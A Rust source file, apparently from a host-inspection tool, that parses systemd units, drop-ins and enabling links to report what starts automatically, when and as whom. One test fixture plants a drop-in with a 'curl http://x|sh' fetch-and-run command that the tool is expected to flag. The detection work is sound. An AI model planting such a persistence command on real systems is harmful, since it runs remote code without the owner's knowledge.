//! Units of systemd, what is dropped in beside them, and the links that arm them (`systemd.unit(5)`, `systemd.service(5)`,
//! `systemd.timer(5)`).
//!
//! ```text
//! [Unit]                          /etc/systemd/system/x.service, ~/.config/systemd/user/x.service
//! Description=…
//! [Service]
//! ExecStart=/usr/bin/python3 %h/.config/x/x.py
//! [Install]
//! WantedBy=default.target         armed by default.target.wants/x.service, a link
//! ```

use super::command::{self, Told};
use super::{CAP, Entry, content, place_of, push};
use crate::extract::Extractor;
use crate::extract::format::shell_words::Word;
use crate::extract::format::unit_lines::{self, Line};
use crate::extract::input::{Content, Input};
use crate::model::autostart::{AutostartKind, UnitLink};
use crate::model::coverage::GapReason;
use crate::model::facts::Harvest;
use crate::model::interest::{Ask, EntryKind, Interest};
use crate::model::path::TargetPath;

/// The row for units.
pub const EXTRACTOR: Extractor = Extractor {
    interest: Interest {
        id: "autostart-systemd",
        sentence: "Units of systemd, of the system and of accounts, and what is dropped in beside them.",
        ask: Ask::Starts("systemd"),
    },
    cap: CAP,
    read,
};

/// The row for the links that arm units.
pub const LINKS: Extractor = Extractor {
    interest: Interest {
        id: "autostart-systemd-links",
        sentence: "The links by which units of systemd are armed.",
        ask: Ask::Starts("systemd-links"),
    },
    cap: CAP,
    read: read_link,
};

/// The keys of services, sockets, mounts and swaps that hold commands (`systemd.service(5)`, `systemd.socket(5)`).
const COMMANDS: &[&[u8]] = &[
    b"ExecStart",
    b"ExecStartPre",
    b"ExecStartPost",
    b"ExecCondition",
    b"ExecReload",
    b"ExecReloadPost",
    b"ExecStop",
    b"ExecStopPre",
    b"ExecStopPost",
];

/// Most lines of one unit that start something.
const MOST_COMMANDS: usize = 200;

fn read(input: &Input<'_>) -> Harvest {
    let Some(place) = place_of(input, "systemd") else { return Harvest::default() };
    let candidate = input.candidate;
    let is_drop_in = place.rule.kind == AutostartKind::SystemdDropIn;
    let name =
        if is_drop_in { [input.folder().file_name(), b"/", candidate.name].concat() } else { candidate.name.to_vec() };
    let Some(kind) = kind_of(&name, place.rule.kind) else { return Harvest::default() };
    if candidate.kind == EntryKind::Link
        && let Some(harvest) = linked(input, kind)
    {
        return harvest;
    }
    let mut harvest = Harvest::default();
    let Some(content) = content(input, &mut harvest) else { return harvest };
    let unit = parse(&content.bytes);
    if unit.is_cut {
        let says = format!("only its first {MOST_COMMANDS} commands were taken");
        harvest.gaps.push(input.gap(GapReason::TooLarge).because(says));
    }
    push(input, &content, entry(kind, &name, unit), &mut harvest);
    harvest
}

/// What a unit is by its name; none for files that systemd does not read.
fn kind_of(name: &[u8], of_place: AutostartKind) -> Option<AutostartKind> {
    if of_place == AutostartKind::SystemdDropIn {
        return name.ends_with(b".conf").then_some(of_place);
    }
    let end = name.rsplit(|byte| *byte == b'.').next().unwrap_or_default();
    match end {
        b"service" => Some(AutostartKind::SystemdService),
        b"timer" => Some(AutostartKind::SystemdTimer),
        b"path" => Some(AutostartKind::SystemdPath),
        b"socket" => Some(AutostartKind::SystemdSocket),
        b"mount" | b"automount" | b"swap" | b"target" | b"slice" | b"scope" | b"device" => {
            Some(AutostartKind::SystemdUnit)
        }
        _ => None,
    }
}

/// A unit that is a link: masked, an alias of one that is read where it lies, or brought in from elsewhere, which is read
/// here.
fn linked(input: &Input<'_>, kind: AutostartKind) -> Option<Harvest> {
    let candidate = input.candidate;
    let to = candidate.dir.read_link(candidate.name).ok()?;
    let mut harvest = Harvest::default();
    let followed = input.target.root.follow_link(&input.folder(), candidate.dir, candidate.name);
    if to == b"/dev/null" {
        let stat = candidate.dir.stat_entry(candidate.name).ok()?;
        let content = Content { bytes: Vec::new(), stat, whole: true, is_elsewhere: false };
        let masked = Entry { enabled: Some(false), trigger: b"masked".to_vec(), ..Entry::new(kind, candidate.name) };
        push(input, &content, masked, &mut harvest);
        harvest.facts.unit_links.push(UnitLink { path: candidate.path.clone(), to });
        return Some(harvest);
    }
    let is_unit = |name: &[u8]| kind_of(name, AutostartKind::SystemdUnit).is_some();
    let is_alias = match followed {
        Ok((_, path)) => is_read_there(input, &path) && is_unit(path.file_name()),
        // It leads nowhere: nothing is started by it.
        Err(_) => true,
    };
    harvest.facts.unit_links.push(UnitLink { path: candidate.path.clone(), to });
    is_alias.then_some(harvest)
}

/// Whether a unit lies where systemd looks for units by itself.
fn is_read_there(input: &Input<'_>, path: &TargetPath) -> bool {
    let place = input.target.start_place(path, |rule| rule.family.as_deref() == Some("systemd"));
    place.is_some_and(|place| place.is_in_place)
}

fn read_link(input: &Input<'_>) -> Harvest {
    let mut harvest = Harvest::default();
    if place_of(input, "systemd-links").is_none() {
        return harvest;
    }
    let candidate = input.candidate;
    let to = match candidate.kind {
        EntryKind::Link => candidate.dir.read_link(candidate.name).unwrap_or_default(),
        // A unit that lies here itself is taken for one by systemd as well.
        EntryKind::File => candidate.name.to_vec(),
        EntryKind::Dir | EntryKind::Other => return harvest,
    };
    harvest.facts.unit_links.push(UnitLink { path: candidate.path.clone(), to });
    harvest
}

/// What a unit says of what it starts.
#[derive(Default, PartialEq, Eq, Debug)]
pub struct Unit {
    /// What it runs, one after the other.
    pub commands: Vec<(u32, Vec<u8>)>,
    /// When it is started, as far as the unit says.
    pub triggers: Vec<Vec<u8>>,
    /// `User=`.
    pub user: Option<Vec<u8>>,
    /// Whether it has an `[Install]` section that says what may arm it.
    pub can_be_armed: bool,
    /// Whether it has more commands than were taken.
    pub is_cut: bool,
}

/// Reads a unit. Which of several files wins, and what an empty assignment takes back, is not known here: everything that
/// any of them would run is told.
#[must_use]
pub fn parse(bytes: &[u8]) -> Unit {
    let mut unit = Unit::default();
    let mut section = Vec::new();
    for Line { number, text } in unit_lines::logical(bytes, b" ") {
        let text = text.trim_ascii();
        if let Some(name) = text.strip_prefix(b"[").and_then(|rest| rest.strip_suffix(b"]")) {
            section = name.to_vec();
            continue;
        }
        let Some(at) = text.iter().position(|byte| *byte == b'=') else { continue };
        let (key, value) = text.split_at(at);
        let (key, value) = (key.trim_ascii(), value.get(1..).unwrap_or_default().trim_ascii());
        if !value.is_empty() {
            unit.take(&section, key, value, number);
        }
    }
    unit
}

impl Unit {
    fn take(&mut self, section: &[u8], key: &[u8], value: &[u8], number: u32) {
        let is_timer = key.starts_with(b"On") && section == b"Timer";
        let is_path = section == b"Path" && (key.starts_with(b"Path") || key.starts_with(b"Directory"));
        let is_socket = section == b"Socket" && key.starts_with(b"Listen");
        let has_commands = matches!(section, b"Service" | b"Socket" | b"Mount" | b"Swap");
        match key {
            _ if is_timer || is_path || is_socket => self.trigger(&[key, b"=", value].concat()),
            b"WantedBy" | b"RequiredBy" | b"UpheldBy" if section == b"Install" => {
                self.can_be_armed = true;
                self.trigger(value);
            }
            b"Also" | b"Alias" if section == b"Install" => self.can_be_armed = true,
            b"Unit" if section == b"Timer" || section == b"Path" => {
                self.trigger(&[b"starts ".as_slice(), value].concat())
            }
            b"User" if has_commands => self.user = Some(value.to_vec()),
            _ if has_commands && COMMANDS.contains(&key) => {
                self.is_cut |= self.commands.len() >= MOST_COMMANDS;
                if !self.is_cut {
                    self.commands.push((number, value.to_vec()));
                }
            }
            _ => {}
        }
    }

    fn trigger(&mut self, text: &[u8]) {
        if self.triggers.len() < 8 {
            self.triggers.push(text.to_vec());
        }
    }
}

fn entry(kind: AutostartKind, name: &[u8], unit: Unit) -> Entry {
    let mut told = Told::default();
    for (number, command) in &unit.commands {
        let one = of_command(command, *number);
        told.programs.extend(one.programs);
        told.signs.extend(one.signs);
    }
    let texts: Vec<&[u8]> = unit.commands.iter().map(|(_, text)| text.as_slice()).collect();
    Entry {
        line: unit.commands.first().map(|(number, _)| *number),
        command: texts.join(b"; ".as_slice()),
        told,
        trigger: unit.triggers.join(b", ".as_slice()),
        runs_as: unit.user,
        enabled: unit.can_be_armed.then_some(false),
        ..Entry::new(kind, name)
    }
}

/// What one `Exec…=` starts: the marks in front of the program say how, not what.
fn of_command(command: &[u8], number: u32) -> Told {
    let marks = command.iter().take_while(|byte| b"@-:+!|".contains(byte)).count();
    let mut words = unit_lines::words(command.get(marks..).unwrap_or_default());
    // The second word is then only what the program is called.
    if command.iter().take(marks).any(|mark| *mark == b'@') && words.len() > 1 {
        words.remove(1);
    }
    let words: Vec<Word> = words.into_iter().map(|text| Word { text, line: number }).collect();
    let mut told = Told::default();
    for part in words.split(|word| word.text == b";") {
        let one = command::of_words(part);
        told.programs.extend(one.programs);
        told.signs.extend(one.signs);
    }
    told
}

#[cfg(test)]
mod tests {
    #![allow(clippy::disallowed_methods, reason = "plants links to look at")]
    use std::os::unix::fs::symlink;

    use proptest::prelude::*;

    use super::*;
    use crate::extract::autostart::planted::Tree;
    use crate::model::host::Platform;

    fn told(tree: &Tree, path: &str) -> Vec<String> {
        tree.told(&EXTRACTOR, Platform::Linux, path)
    }

    #[test]
    fn units_say_what_they_run_when_and_as_whom() {
        let service = b"[Unit]\nDescription=x\n[Service]\nUser=mia\nExecStartPre=-/bin/mkdir /run/x\n\
            ExecStart=/usr/bin/python3 %h/.config/x/x.py \\\n  --fast\n[Install]\nWantedBy=default.target\n";
        let tree = Tree::with(&[
            ("/home/mia/.config/systemd/user/x.service", service),
            (
                "/etc/systemd/system/x.timer",
                b"[Timer]\nOnCalendar=*:0/15\nUnit=y.service\n[Install]\nWantedBy=timers.target\n",
            ),
            ("/etc/systemd/system/x.service.d/10.conf", b"[Service]\nExecStartPost=/bin/sh -c 'curl http://x|sh'\n"),
            ("/etc/systemd/system/x.service.bak", service),
            ("/srv/backup/etc/systemd/system/x.service", service),
        ]);
        assert_eq!(
            told(&tree, "/home/mia/.config/systemd/user/x.service"),
            ["SystemdService x.service | runs /bin/mkdir /run/x; /usr/bin/python3 %h/.config/x/x.py --fast | when default.target | as mia \
              | Program /bin/mkdir | Program /usr/bin/python3 | Script /home/mia/.config/x/x.py Hidden"
                .replace("/bin/mkdir /run/x; ", "-/bin/mkdir /run/x; ")
                .replace("x.py --fast", "x.py    --fast")]
        );
        assert_eq!(
            told(&tree, "/etc/systemd/system/x.timer"),
            ["SystemdTimer x.timer | when OnCalendar=*:0/15, starts y.service, timers.target"]
        );
        let drop_in = told(&tree, "/etc/systemd/system/x.service.d/10.conf");
        assert!(drop_in[0].starts_with("SystemdDropIn x.service.d/10.conf | runs /bin/sh"), "{drop_in:?}");
        assert!(drop_in[0].ends_with("| FetchesAndRuns"), "{drop_in:?}");
        assert!(told(&tree, "/etc/systemd/system/x.service.bak").is_empty());
        assert!(told(&tree, "/srv/backup/etc/systemd/system/x.service").is_empty());
    }

    #[test]
    fn links_mask_arm_and_bring_in() {
        let unit = b"[Service]\nExecStart=/opt/x\n";
        let tree = Tree::with(&[("/lib/systemd/system/x.service", unit), ("/tmp/y.service", unit)]);
        symlink("/dev/null", tree.at("/etc/systemd/system/masked.service")).unwrap();
        symlink("/lib/systemd/system/x.service", tree.at("/etc/systemd/system/alias.service")).unwrap();
        symlink("/tmp/y.service", tree.at("/etc/systemd/system/y.service")).unwrap();
        symlink("../x.service", tree.at("/etc/systemd/system/multi-user.target.wants/x.service")).unwrap();
        symlink("loop.service", tree.at("/etc/systemd/system/loop.service")).unwrap();
        assert_eq!(told(&tree, "/etc/systemd/system/masked.service"), ["SystemdService masked.service | when masked"]);
        assert_eq!(
            told(&tree, "/etc/systemd/system/y.service"),
            ["SystemdService y.service | runs /opt/x | Program /opt/x"]
        );
        for alias in ["alias", "loop"] {
            let harvest = tree.read(&EXTRACTOR, Platform::Linux, &format!("/etc/systemd/system/{alias}.service"));
            assert!(harvest.facts.autostarts.is_empty() && harvest.facts.unit_links.len() == 1);
        }
        let harvest = tree.read(&LINKS, Platform::Linux, "/etc/systemd/system/multi-user.target.wants/x.service");
        assert_eq!(harvest.facts.unit_links[0].to, b"../x.service");
    }

    #[test]
    fn only_commands_are_commands() {
        let told = |text: &str| tree_of(text).join("\n");
        assert!(told("[Service]\nExecStart=@/usr/bin/python3 myd /tmp/x.py\n").ends_with("Script /tmp/x.py Temporary"));
        assert_eq!(told("[Service]\nExecPaths=/tmp/app\nExecSearchPath=/tmp\n"), "SystemdService x.service");
        assert_eq!(told("[X-Other]\nExecStart=/tmp/x\nUser=mia\n"), "SystemdService x.service");
    }

    fn tree_of(text: &str) -> Vec<String> {
        let path = "/etc/systemd/system/x.service";
        told(&Tree::with(&[(path, text.as_bytes())]), path)
    }

    #[test]
    fn commands_beyond_the_bound_are_a_gap() {
        let unit = format!("[Service]\n{}ExecStart=/tmp/x\n", "ExecStartPre=/bin/true\n".repeat(MOST_COMMANDS));
        let path = "/etc/systemd/system/x.service";
        let harvest = Tree::with(&[(path, unit.as_bytes())]).read(&EXTRACTOR, Platform::Linux, path);
        assert!(harvest.gaps[0].reason == GapReason::TooLarge && harvest.gaps[0].material);
    }

    #[test]
    fn a_unit_without_end_is_read_in_part() {
        let mut unit = b"[Service]\nExecStart=/opt/x\n".to_vec();
        unit.resize(usize::try_from(CAP).unwrap() + 10, b'\n');
        let tree = Tree::with(&[("/etc/systemd/system/x.service", &unit)]);
        let harvest = tree.read(&EXTRACTOR, Platform::Linux, "/etc/systemd/system/x.service");
        assert_eq!(harvest.gaps[0].reason, GapReason::TooLarge);
        assert!(harvest.gaps[0].material && harvest.facts.autostarts.len() == 1);
    }

    proptest! {
        #[test]
        fn any_bytes_are_read(bytes in prop::collection::vec(any::<u8>(), 0..300)) {
            let unit = parse(&[b"[Service]\nExecStart=".as_slice(), &bytes].concat());
            prop_assert!(unit.commands.len() <= MOST_COMMANDS);
            let _ = entry(AutostartKind::SystemdService, b"x", unit);
        }
    }
}
